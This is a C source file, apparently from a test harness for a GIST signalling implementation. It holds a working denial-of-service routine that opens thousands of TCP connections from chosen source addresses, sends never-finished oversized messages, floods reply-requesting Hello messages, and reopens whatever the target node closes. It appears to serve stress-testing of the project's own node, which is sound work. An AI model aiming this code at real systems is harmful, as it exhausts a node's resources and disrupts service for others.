/* Associations that are of no use; see connections.h. */
#include "harness/attack/connections.h"

#include "core/gist/message/common_header.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
    CONNECTIONS_MAX = 20000,
    SPARE_DESCRIPTORS = 64,
    CONNECT_WITHIN_MS = 500,
    TURN_MS = 50,
    REOPENED_PER_TURN = 20
};

struct connection {
    int descriptor;     /* -1: ended by the node */
    unsigned long left; /* octets still to be sent of its endless message */
    size_t piled;       /* octets sent of the hello that was cut short */
};

static bool raise_limit(unsigned long count)
{
    struct rlimit limit = {count + SPARE_DESCRIPTORS, count + SPARE_DESCRIPTORS};
    return setrlimit(RLIMIT_NOFILE, &limit) == 0;
}

static bool wait_connected(int descriptor)
{
    struct pollfd writable = {.fd = descriptor, .events = POLLOUT};
    int error = 0;
    socklen_t length = sizeof(error);
    return poll(&writable, 1, CONNECT_WITHIN_MS) == 1 &&
           getsockopt(descriptor, SOL_SOCKET, SO_ERROR, &error, &length) == 0 && error == 0;
}

int attack_connect_from(const struct attack *attack, unsigned long number)
{
    struct gist_address source = attack_source(attack, number);
    struct sockaddr_in own = {.sin_family = AF_INET};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(attack->association_port)};
    memcpy(&own.sin_addr, source.octets, sizeof(own.sin_addr));
    memcpy(&to.sin_addr, attack->to.octets, sizeof(to.sin_addr));
    int descriptor = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (descriptor >= 0 && bind(descriptor, (struct sockaddr *)&own, sizeof(own)) == 0 &&
        (connect(descriptor, (struct sockaddr *)&to, sizeof(to)) == 0 || errno == EINPROGRESS) &&
        wait_connected(descriptor))
        return descriptor;
    if (descriptor >= 0)
        close(descriptor);
    return -1;
}

/* The header of a message that is long: a Data message for nobody here. */
static void announce(struct connection *connection, unsigned long octets)
{
    uint8_t header[GIST_COMMON_HEADER_LENGTH];
    struct wire_writer writer = wire_writer_over(header, sizeof(header));
    struct gist_common_header data = {.version = GIST_VERSION,
        .hop_count = 1,
        .type = GIST_DATA,
        .nslp_id = 33,
        .length = (uint16_t)((octets - GIST_COMMON_HEADER_LENGTH) / 4)};
    gist_common_header_write(&writer, &data);
    if (send(connection->descriptor, header, sizeof(header), MSG_NOSIGNAL) > 0)
        connection->left = octets - sizeof(header) - 4; /* all but its last word */
}

enum { HELLO_LENGTH = GIST_COMMON_HEADER_LENGTH + 8, PILE_HELLOS = 2000 };

/* It asks for an answer, so that there is work with it. */
static void make_hello(uint8_t hello[HELLO_LENGTH])
{
    struct wire_writer writer = wire_writer_over(hello, HELLO_LENGTH);
    struct gist_common_header header = {.version = GIST_VERSION,
        .hop_count = 1,
        .type = GIST_MA_HELLO,
        .source_is_peer = true,
        .reply_requested = true,
        .length = 2};
    gist_common_header_write(&writer, &header);
    wire_put_u16(&writer, 10); /* Hello-ID, of one word */
    wire_put_u16(&writer, 1);
    wire_put_u32(&writer, 1);
}

static void say_nothing_of_use(struct connection *connection)
{
    uint8_t hello[HELLO_LENGTH];
    make_hello(hello);
    (void)!send(connection->descriptor, hello, sizeof(hello), MSG_NOSIGNAL);
}

/* As many as the connection takes; of one that is cut short, the rest follows. */
static void pile(struct connection *connection)
{
    static uint8_t hellos[PILE_HELLOS * HELLO_LENGTH];
    if (hellos[0] == 0)
        for (size_t i = 0; i < PILE_HELLOS; i++)
            make_hello(hellos + i * HELLO_LENGTH);
    ssize_t sent = send(connection->descriptor, hellos + connection->piled,
        sizeof(hellos) - connection->piled, MSG_NOSIGNAL);
    if (sent > 0)
        connection->piled = (connection->piled + (size_t)sent) % HELLO_LENGTH;
}

/* Reads what the node sends, sends what is left. Returns false when the node has ended it. */
static bool take_turn(struct connection *connection)
{
    static uint8_t octets[1 << 16];
    ssize_t received = recv(connection->descriptor, octets, sizeof(octets), 0);
    if (received == 0 || (received < 0 && errno != EAGAIN))
        return false;
    if (connection->left == 0)
        return true;
    size_t most = connection->left < sizeof(octets) ? connection->left : sizeof(octets);
    ssize_t sent = send(connection->descriptor, octets, most, MSG_NOSIGNAL);
    connection->left -= sent > 0 ? (unsigned long)sent : 0;
    return sent > 0 || errno == EAGAIN;
}

/* What the node has ended is opened again, some at each turn. */
static bool open_one(
    const struct attack *attack, struct connection *connection, unsigned long number)
{
    *connection = (struct connection){.descriptor = attack_connect_from(attack, number)};
    if (connection->descriptor >= 0 && attack->octets > 0)
        announce(connection, attack->octets);
    return connection->descriptor >= 0;
}

static unsigned long take_turns(
    const struct attack *attack, struct connection *connections, bool says)
{
    unsigned long open = 0, again = 0;
    for (unsigned long i = 0; i < attack->count; i++) {
        struct connection *connection = &connections[i];
        if (connection->descriptor < 0 && again++ < REOPENED_PER_TURN)
            open_one(attack, connection, i);
        if (connection->descriptor < 0)
            continue;
        if (says)
            say_nothing_of_use(connection);
        if (attack->piles)
            pile(connection);
        open++;
        if (take_turn(connection))
            continue;
        close(connection->descriptor);
        connection->descriptor = -1;
        open--;
    }
    return open;
}

int attack_by_connections(const struct attack *attack)
{
    static struct connection connections[CONNECTIONS_MAX];
    unsigned long opened = 0;
    double start = attack_seconds(), say_at = start;
    if (attack->count > CONNECTIONS_MAX || !raise_limit(attack->count))
        return attack_fail("descriptors");
    for (unsigned long i = 0; i < attack->count; i++) {
        opened += open_one(attack, &connections[i], i);
        attack_keep_pace(attack, i + 1, start);
    }
    printf("%lu of %lu connected in %.1f s\n", opened, attack->count, attack_seconds() - start);
    fflush(stdout);
    while (attack->seconds == 0 || attack_seconds() < start + (double)attack->seconds) {
        bool says = attack->every_ms > 0 && attack_seconds() >= say_at;
        say_at += says ? (double)attack->every_ms / 1000 : 0;
        opened = take_turns(attack, connections, says);
        poll(NULL, 0, TURN_MS);
    }
    printf("%lu of them still open after %.1f s\n", opened, attack_seconds() - start);
    return 0;
}
